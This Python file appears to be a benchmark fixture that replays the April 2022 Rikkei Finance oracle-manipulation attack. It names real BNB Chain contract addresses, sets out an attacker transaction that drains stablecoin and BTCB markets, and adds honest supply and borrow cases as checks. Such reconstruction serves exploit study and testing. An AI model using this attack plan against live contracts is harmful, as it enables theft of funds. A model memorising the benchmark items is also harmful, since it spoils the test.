"""Rikkei Finance, April 2022: anybody could say where a price comes from."""

from benches.quality.plan import ETHER, NATIVE, Incident, Plan, call, gains

ORACLE = "0xd55f01b4b51b7f48912cd8ca3cdd8070a1a9dba5"
COMPTROLLER = "0x4f3e801bd57dc3d641e72f2774280b21d31f64e4"
BNB_MARKET = "0x157822ac5fa0efe98daa4b0a55450f4a182c10ca"
MARKETS = {
    "rBNB": BNB_MARKET,
    "rUSDC": "0x916e87d16b2f3e097b9a6375dc7393cf3b5c11f5",
    "rBTC": "0x53abf990bf7a37faa783a75fdd75bbcf8bdf11eb",
    "rDAI": "0x9b9006cb01b1f664ac25137d3a3a20b37d8bc078",
    "rUSDT": "0x383598668c025be0798e90e7c5485ff18d311063",
    "rBUSD": "0x6db6a55e57ac8c90477bbf00ce874b988666553a",
}
USDC = "0x8ac76a51cc950d9822d68b83fe1ad97b32cd580d"
BUSD = "0xe9e7cea3dedca5984780bafc599bd69add087d56"
BTCB = "0x7130d2a12b9bcbfae4f2634d864a1ee1ce3ead9c"
_ENTER = call("enterMarkets(address[])", [BNB_MARKET])


def build(plan: Plan) -> None:
    attacker = plan.actor("attacker")
    setter = plan.deploy(attacker, "OracleSetter")
    lent = [MARKETS[name] for name in ("rUSDC", "rBTC", "rDAI", "rUSDT", "rBUSD")]
    rob = call("rob(address,address,address,address[])", ORACLE, COMPTROLLER, BNB_MARKET, lent)
    plan.attack(
        plan.transaction(attacker, setter, rob, value=ETHER // 10, gas=10_000_000),
        changes=[
            gains(USDC, attacker, 346_000 * ETHER),
            gains(BUSD, attacker, 299_000 * ETHER),
            gains(BTCB, attacker, 3 * ETHER),
        ],
    )

    saver, borrower = plan.actor("saver"), plan.actor("borrower")
    plan.honest(
        "supply of 10 BNB",
        plan.transaction(saver, BNB_MARKET, call("mint()"), value=10 * ETHER),
        changes=[gains(BNB_MARKET, saver, 1), gains(NATIVE, BNB_MARKET, 10 * ETHER)],
    )
    plan.before(borrower, BNB_MARKET, call("mint()"), value=10 * ETHER)
    plan.before(borrower, COMPTROLLER, _ENTER)
    plan.honest(
        "1,000 USDC borrowed against 10 BNB",
        plan.transaction(borrower, MARKETS["rUSDC"], call("borrow(uint256)", 1_000 * ETHER)),
        changes=[gains(USDC, borrower, 1_000 * ETHER)],
    )
    holder = plan.actor("wallet's holder")
    plan.honest(
        "a wallet supplies 20 BNB, borrows 3,000 BUSD and sends them on",
        plan.through(
            (wallet := plan.install("Wallet")),
            holder,
            (BNB_MARKET, 20 * ETHER, call("mint()")),
            (COMPTROLLER, 0, _ENTER),
            (MARKETS["rBUSD"], 0, call("borrow(uint256)", 3_000 * ETHER)),
            (BUSD, 0, call("transfer(address,uint256)", holder.address, 3_000 * ETHER)),
            value=20 * ETHER,
        ),
        changes=[gains(BUSD, holder, 3_000 * ETHER), gains(BNB_MARKET, wallet, 1)],
        by="contract",
    )


RIKKEI = Incident("Rikkei", {"Oracle": ORACLE, "Comptroller": COMPTROLLER} | MARKETS, build)
